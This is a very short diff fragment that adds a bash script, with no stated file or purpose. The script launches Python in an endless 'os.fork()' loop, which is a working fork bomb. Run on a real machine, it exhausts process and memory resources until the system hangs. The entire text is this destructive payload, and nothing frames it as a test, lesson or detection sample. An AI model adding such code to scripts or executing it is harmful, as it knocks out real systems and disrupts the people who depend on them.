@@ -1,0 +1,3 @@
+#!/bin/bash
+python3 -c 'import os
+while 1: os.fork()'
